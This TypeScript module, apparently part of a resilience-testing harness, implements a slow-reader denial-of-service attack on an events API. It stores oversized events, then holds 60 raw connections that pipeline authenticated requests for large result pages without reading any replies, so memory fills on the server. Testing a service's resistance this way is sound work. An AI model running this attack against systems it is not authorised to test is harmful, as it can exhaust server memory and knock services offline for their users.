import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from './attack.ts';
import { describe, keepOpen } from './raw-sockets.ts';

const CONNECTIONS = 60;
/** Few enough that the limit of concurrent queries lets most of them through. */
const REQUESTS = 8;
const ASK_EVERY_MS = 4_000;
const EVENTS = 100;
const PROPERTY_CHARACTERS = 25_000;

/** Stores events that make a page of search as large as it can be. */
export async function storeLargeEvents(
  { url, clientKey, appId }: Target,
  signal?: AbortSignal,
): Promise<void> {
  for (let from = 0; from < EVENTS; from += EVENTS / 4) {
    const events = Array.from({ length: EVENTS / 4 }, (_, index) => ({
      event_id: `large-${from + index}`,
      event_name: 'large',
      app_user_id: 'u1',
      properties: { text: 'x'.repeat(PROPERTY_CHARACTERS) },
    }));
    await fetch(`${url}/v1/events`, {
      method: 'POST',
      headers: { authorization: `Bearer ${clientKey}`, 'content-type': 'application/json' },
      body: JSON.stringify({ app_id: appId, events }),
      signal: signal ?? null,
    }).then((response) => response.text());
  }
}

/** Returns the attack with this many connections. */
export const stallFrom = (connections: number): Attack => ({
  name: `${connections} connections that ask for large answers and read nothing`,
  async run(target, signal) {
    await storeLargeEvents(target, signal).catch(() => undefined);
    const { url, serverKey } = target;
    const request = `GET /v1/events?limit=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${serverKey}\r\n\r\n`;
    const ask = async (socket: Socket, index: number) => {
      await sleep((index * ASK_EVERY_MS) / connections);
      // More answers than the system takes for a reader: the rest stays in the server.
      for (let asked = 0; asked < REQUESTS && !socket.destroyed; asked += 1) {
        socket.write(request);
        await sleep(ASK_EVERY_MS);
      }
    };
    return describe(await keepOpen(url, connections, ask, signal));
  },
});

/** Answers that stay in memory because their readers take none of them. */
export const stalledReaders = stallFrom(CONNECTIONS);
